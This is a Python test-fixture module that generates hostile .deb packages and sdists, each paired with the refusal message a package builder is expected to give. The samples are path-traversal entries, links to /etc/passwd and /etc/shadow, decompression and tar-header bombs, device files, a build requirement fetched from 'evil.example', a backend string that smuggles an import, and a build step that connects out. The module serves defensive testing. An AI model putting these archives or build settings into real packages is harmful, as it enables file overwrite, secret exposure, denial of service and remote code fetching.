"""Hostile Debian packages and sdists."""

from __future__ import annotations

import gzip
import io
import lzma
import stat
import tarfile
import zipfile
from collections.abc import Callable

from builder.canonical import dump_json
from tests.hostile.model import Material
from tests.support import sdists
from tests.support.debs import CONTROL, Item, compress, hardlink, make_ar, make_deb, make_tar, symlink
from tests.support.sdists import TOP, make_sdist
from tests.support.wheels import ZipEntry, write_zip

EVIL = b"print('evil')\n"
_MIB = 1 << 20


def _deb(*items: Item) -> Callable[[], bytes]:
    return lambda: make_deb(items)


def _deb_of(tar: Callable[[], bytes], suffix: str = "gz") -> Callable[[], bytes]:
    return lambda: make_deb(data_tar=tar(), suffix=suffix)


def _control(text: str) -> Callable[[], bytes]:
    return lambda: make_deb([], control=text)


def _zeros(size: int, name: str = "./zeros", before: bytes = b"") -> bytes:
    """Pack that many zeros into a tar within gzip, without holding them."""
    sink = io.BytesIO()
    with gzip.GzipFile(fileobj=sink, mode="wb", mtime=0) as packer:
        header = tarfile.TarInfo(name)
        header.size = size
        packer.write(before)
        packer.write(header.tobuf(tarfile.GNU_FORMAT))
        for _ in range(size // _MIB):
            packer.write(bytes(_MIB))
        packer.write(bytes(1024))
    return sink.getvalue()


def _deb_bomb() -> bytes:
    return _ar(_zeros(128 * _MIB), "gz")


def _ar(data: bytes, suffix: str) -> bytes:
    control = compress(make_tar([Item(name="./control", data=CONTROL.encode())]), suffix)
    return make_ar([("debian-binary", b"2.0\n"), (f"control.tar.{suffix}", control), (f"data.tar.{suffix}", data)])


def _two_streams() -> bytes:
    tar = make_tar([Item(name="./a")])
    control = lzma.compress(make_tar([Item(name="./control", data=CONTROL.encode())]))
    both = lzma.compress(tar[:512]) + lzma.compress(tar[512:])
    return make_ar([("debian-binary", b"2.0\n"), ("control.tar.xz", control), ("data.tar.xz", both)])


def _wide_window() -> bytes:
    """A zstd frame that asks for a window of 2 GiB."""
    # Magic, a descriptor without content size, the window's byte (exponent 21), one raw block of nothing that is the last.
    return _ar(bytes.fromhex("28b52ffd00a8010000"), "zst")


def _many_members() -> bytes:
    members = b"".join(tarfile.TarInfo(f"./{number}").tobuf(tarfile.GNU_FORMAT) for number in range(50_001))
    return make_deb(data_tar=members + bytes(1024), suffix="gz")


def _long_name() -> bytes:
    header = tarfile.TarInfo("././@LongLink")
    header.type, header.size = tarfile.GNUTYPE_LONGNAME, 64 * _MIB
    return make_deb(data_tar=header.tobuf(tarfile.GNU_FORMAT) + bytes(64 * _MIB + 1024), suffix="gz")


def _sparse() -> bytes:
    header = tarfile.TarInfo("./sparse")
    header.type = tarfile.GNUTYPE_SPARSE
    return header.tobuf(tarfile.GNU_FORMAT) + bytes(1024)


def _pax_path() -> bytes:
    return make_tar([Item(name="./" + "x" * 300)], tar_format=tarfile.PAX_FORMAT)


def _damaged_checksum() -> bytes:
    return b"y" + make_tar([Item(name="./a")])[1:]


def _second_archive() -> bytes:
    return make_tar([Item(name="./a")]) + make_tar([Item(name="./evil", data=EVIL)])


def _negative_size() -> bytes:
    return patched_tar(tarfile.TarInfo("./a"), 124, b"\xff" * 12) + bytes(1024)


def _folder_with_content() -> bytes:
    file = tarfile.TarInfo("./a")
    file.size = len(EVIL)
    return patched_tar(file, 156, tarfile.DIRTYPE) + EVIL.ljust(512, b"\0") + bytes(1024)


def patched_tar(member: tarfile.TarInfo, at: int, value: bytes) -> bytes:
    """Write a header with some bytes of it put there by hand, and its checksum right."""
    header = bytearray(member.tobuf(tarfile.GNU_FORMAT))
    header[at : at + len(value)] = value
    header[148:156] = b" " * 8
    header[148:156] = b"%06o\0 " % sum(header)
    return bytes(header)


DEBS: tuple[Material, ...] = tuple(
    Material(threat=threat, kind="deb", name=name, make=make, refused=refused)
    for threat, name, refused, make in (
        ("A1", "absolute", "a path that is not a plain relative one: '/etc/evil'", _deb(Item(name="/etc/evil"))),
        ("A1", "climbs by ../", "a path that is not a plain relative one: './usr/../../etc/evil'", _deb(Item(name="./usr/../../etc/evil"))),
        ("A1", "a dot part and an empty one", "a path that is not a plain relative one: '././usr//evil'", _deb(Item(name="././usr//evil"))),
        ("A1", "newline in the name", "a control character in a path: './evil\\nx'", _deb(Item(name="./evil\nx"))),
        ("A1", "below a link that leads out", "a/evil: lies below a, a symlink", _deb(symlink("./a", "/etc"), Item(name="./a/evil"))),
        ("A1", "a link where files are", "a: a symlink with entries below it", _deb(Item(name="./a/b"), symlink("./a", "/etc"))),
        ("A1", "link that climbs out", "usr/a: a symbolic link that climbs out of the root: '../../etc/passwd'", _deb(symlink("./usr/a", "../../etc/passwd"))),
        ("A1", "link without a target", "a: a symbolic link to ''", _deb(symlink("./a", ""))),
        ("A1", "hard link that climbs", "a: a path that is not a plain relative one: '../etc/passwd'", _deb(hardlink("./a", "../etc/passwd"))),
        ("A2", "no ar archive", "no ar archive", lambda: b"PK\x03\x04"),
        ("A2", "bytes after the archive", "damaged ar header", lambda: make_deb() + b"evil"),
        ("A2", "cut short", "ends too early", lambda: make_deb()[:-100]),
        ("A2", "a member more", "not the three members", lambda: make_deb() + make_ar([("evil", b"")])[8:]),
        ("A2", "other members", "not the three members", lambda: make_ar([("debian-binary", b"2.0\n"), ("_gpgorigin", b""), ("x.tar.xz", b"")])),
        ("A2", "another format", "not of format 2.0", lambda: make_deb().replace(b"2.0\n", b"3.0\n")),
        ("A2", "two streams, one after the other", "after the end of the compressed stream", _two_streams),
        ("A2", "bytes after the stream", "after the end of the compressed stream", lambda: _ar(compress(make_tar([]), "gz") + b"evil", "gz")),
        ("A2", "a second tar behind the first", "data after the end of the tar archive", _deb_of(_second_archive)),
        ("A2", "wrong checksum of a header", "wrong checksum", _deb_of(_damaged_checksum)),
        ("A2", "no end of archive", "ends too early", _deb_of(lambda: make_tar([Item(name="./a")])[:512])),
        ("A2", "a name by a pax record", "a pax record is refused", _deb_of(_pax_path)),
        ("A2", "a size below nothing", "number", _deb_of(_negative_size)),
        ("A2", "content of a folder", "a directory with content", _deb_of(_folder_with_content)),
        ("A3", "no control file's fields", "field Architecture is missing", _control("Package: hello\nVersion: 1\n")),
        ("A3", "a field twice", "field Package stands twice", _control(f"{CONTROL}Package: evil\n")),
        ("A3", "two paragraphs", "not a control field: ''", _control(f"{CONTROL}\nPackage: evil\n")),
        ("A4", "inflates 1000 to 1", "inflates to more than 67108864 bytes", _deb_bomb),
        ("A4", "50,000 members and more", "more than 50000 members", _many_members),
        ("A4", "a name of 64 MB", "long name", _long_name),
        ("A4", "a zstd window of 2 GiB", "not a zstd stream", _wide_window),
        ("A4", "a sparse file", "a sparse file is refused", _deb_of(_sparse)),
        ("A5", "block device", "./dev/sda: a block device is refused", _deb(Item(name="./dev/sda", type=tarfile.BLKTYPE))),
        ("A5", "character device", "./dev/mem: a character device is refused", _deb(Item(name="./dev/mem", type=tarfile.CHRTYPE))),
        ("A5", "fifo", "./pipe: a fifo is refused", _deb(Item(name="./pipe", type=tarfile.FIFOTYPE))),
        ("A5", "unknown type", "./odd: a member of type b'V' is refused", _deb(Item(name="./odd", type=b"V"))),
        ("A5", "hard link to a file of somebody else", "a: a hard link to './etc/shadow', no earlier file of this deb", _deb(hardlink("./a", "./etc/shadow"))),
        ("A5", "whiteout", "a path that layers would read as a whiteout: './usr/.wh.bin'", _deb(Item(name="./usr/.wh.bin"))),
        ("A5", "opaque whiteout", "a path that layers would read as a whiteout: './usr/.wh..wh..opq'", _deb(Item(name="./usr/.wh..wh..opq"))),
        ("A6", "a path twice", "a: the path stands twice", _deb(Item(name="./a"), Item(name="./a", data=EVIL))),
        ("A6", "file and folder", "a/b: lies below a, a file", _deb(Item(name="./a"), Item(name="./a/b"))),
    )
)  # fmt: skip


_BUILDABLE = {f"{TOP}/{name}": data for name, data in sdists.backend_files().items()} | {f"{TOP}/setup.py": b"pass\n"}
"""What every hostile sdist has besides, so that who does not refuse it can build it."""


def _sdist(*entries: tuple[tarfile.TarInfo, bytes]) -> Callable[[], bytes]:
    good = [sdists.entry(name, data) for name, data in _BUILDABLE.items()]
    return lambda: sdists.make_tar([*good, *entries])


def _buildable_members() -> bytes:
    """Write the same without the end of a tar."""
    members = (sdists.entry(name, data) for name, data in _BUILDABLE.items())
    return b"".join(info.tobuf() + data.ljust(-(-len(data) // 512) * 512, b"\0") for info, data in members)


def _odd(name: str, kind: bytes, target: str = "") -> Callable[[], bytes]:
    return _sdist(sdists.entry(f"{TOP}/{name}", type=kind, linkname=target))


def _slipping_zip() -> bytes:
    good = [ZipEntry(name=name.encode(), data=data) for name, data in _BUILDABLE.items()]
    return write_zip([*good, ZipEntry(name=f"{TOP}/../../evil".encode(), data=EVIL)])


def _zip_link() -> bytes:
    sink = io.BytesIO()
    with zipfile.ZipFile(sink, "w") as archive:
        info = zipfile.ZipInfo(f"{TOP}/evil")
        info.external_attr = (stat.S_IFLNK | 0o777) << 16
        archive.writestr(info, "/etc/passwd")
        for name, data in _BUILDABLE.items():
            archive.writestr(zipfile.ZipInfo(name), data)
    return sink.getvalue()


def _sparse_sdist() -> bytes:
    info, data = sdists.entry(f"{TOP}/big", b"1\n0\n0\n".ljust(512, b"\0"))
    info.pax_headers = {"GNU.sparse.major": "1", "GNU.sparse.minor": "0", "GNU.sparse.realsize": str(1 << 40)}
    return _sdist((info, data))()


def _many_entries() -> bytes:
    members = b"".join(tarfile.TarInfo(f"{TOP}/{number}").tobuf() for number in range(30_001))
    return gzip.compress(_buildable_members() + members + bytes(1024), mtime=0)


def _huge_claim() -> bytes:
    """A header that claims 8 EiB of content, by base-256."""
    header = patched_tar(tarfile.TarInfo(f"{TOP}/evil"), 124, b"\x80" + (1 << 63).to_bytes(11, "big"))
    return gzip.compress(_buildable_members() + header + bytes(1024), mtime=0)


def _huge_pax() -> bytes:
    header = tarfile.TarInfo("x")
    header.type, header.size = tarfile.XHDTYPE, 32 * _MIB
    sink = io.BytesIO()
    with gzip.GzipFile(fileobj=sink, mode="wb", mtime=0) as packer:
        packer.write(_buildable_members() + header.tobuf())
        for _ in range(32):
            packer.write(bytes(_MIB))
        packer.write(tarfile.TarInfo(f"{TOP}/x").tobuf() + bytes(1024))
    return sink.getvalue()


def calls_home(port: int) -> bytes:
    """Make an sdist whose build connects to a port of the loopback: B6."""
    return sdists.make_backend_sdist(f"import socket\nsocket.create_connection(('127.0.0.1', {port}), 5).close()")


SDISTS: tuple[Material, ...] = tuple(
    Material(threat=threat, kind="sdist", name=name, make=make, refused=refused, file_name=file_name)
    for threat, name, refused, make, file_name in (
        ("A1", "absolute", "/tmp/evil: the name is absolute", _sdist(sdists.entry("/tmp/evil", EVIL)), ""),  # noqa: S108
        ("A1", "climbs by ../", "demo-1.0/../../evil: the name climbs out of its folder", _sdist(sdists.entry(f"{TOP}/../../evil", EVIL)), ""),
        ("A1", "backslash", "demo-1.0/a\\evil: the name has a backslash, a separator on other systems", _sdist(sdists.entry(f"{TOP}/a\\evil", EVIL)), ""),
        ("A1", "newline in the name", "demo-1.0/a\\nevil: the name has a NUL, control or invisible character", _sdist(sdists.entry(f"{TOP}/a\nevil", EVIL)), ""),
        ("A1", "climbs in a zip", "demo-1.0/../../evil: the name climbs out of its folder", _slipping_zip, "demo-1.0.zip"),
        ("A1", "link that climbs out", "demo-1.0/evil: a link that leads to no file of this sdist", _odd("evil", tarfile.SYMTYPE, "../../etc/passwd"), ""),
        ("A1", "absolute link", "demo-1.0/evil: a link that leads to no file of this sdist", _odd("evil", tarfile.SYMTYPE, "/etc/passwd"), ""),
        ("A1", "hard link out", "demo-1.0/evil: a link that leads to no file of this sdist", _odd("evil", tarfile.LNKTYPE, "/etc/passwd"), ""),
        ("A2", "two top folders", "2 top folders", _sdist(sdists.entry("other-1.0/setup.py", EVIL)), ""),
        ("A2", "a file beside the top folder", "2 top folders", _sdist(sdists.entry("setup.py", EVIL)), ""),
        ("A2", "cut short", "the gzip stream breaks off", lambda: _sdist()()[:-20], ""),
        ("A2", "neither of two formats", "neither .tar.gz nor .zip", lambda: b"BZh9", "demo-1.0.tar.bz2"),
        ("A4", "inflates 1000 to 1", "inflates to more than 67108864 bytes", lambda: _zeros(128 * _MIB, f"{TOP}/zeros", _buildable_members()), ""),
        ("A4", "many gzip members of nothing", "more than 64 gzip members", lambda: gzip.compress(b"", mtime=0) * 65 + _sdist()(), ""),
        ("A4", "30,000 entries and more", "more than 30000 entries", _many_entries, ""),
        ("A4", "a sparse file of a terabyte", "neither file, folder nor link", _sparse_sdist, ""),
        ("A4", "content of 8 EiB that is not there", "the tar is damaged", _huge_claim, ""),
        ("A4", "an extended header of 32 MB", "an extended header of", _huge_pax, ""),
        ("A5", "character device", "demo-1.0/null: neither file, folder nor link", _odd("null", tarfile.CHRTYPE), ""),
        ("A5", "block device", "demo-1.0/disk: neither file, folder nor link", _odd("disk", tarfile.BLKTYPE), ""),
        ("A5", "fifo", "demo-1.0/fifo: neither file, folder nor link", _odd("fifo", tarfile.FIFOTYPE), ""),
        ("A5", "link to a folder", "demo-1.0/evil: a link that leads to no file of this sdist", _odd("evil", tarfile.SYMTYPE, "."), ""),
        ("A5", "link in a zip", "demo-1.0/evil: not a plain file or directory: mode 0120777", _zip_link, "demo-1.0.zip"),
        ("A6", "a file twice", "demo-1.0/setup.py: it is there twice", _sdist(sdists.entry(f"{TOP}/setup.py", EVIL)), ""),
        ("A6", "file and folder", "demo-1.0/setup.py: a file, and a folder too", _sdist(sdists.entry(f"{TOP}/setup.py/evil", EVIL)), ""),
        ("B6", "asks its build to fetch by address", "requires", lambda: _build_system(["evil @ https://evil.example/evil.whl"]), ""),
        ("B6", "a backend outside of the sdist", "backend-path", lambda: _build_system([], path=["../.."]), ""),
        ("B6", "a backend that is no module", "backend", lambda: _build_system([], backend="os;import evil"), ""),
    )
)  # fmt: skip


def _build_system(requires: list[str], *, path: list[str] | None = None, backend: str = "evil") -> bytes:
    lines = [b"[build-system]", b"requires = " + dump_json(requires), b"build-backend = " + dump_json(backend)]
    lines += [b"backend-path = " + dump_json(path)] if path is not None else []
    return make_sdist({"pyproject.toml": b"\n".join(lines) + b"\n"})
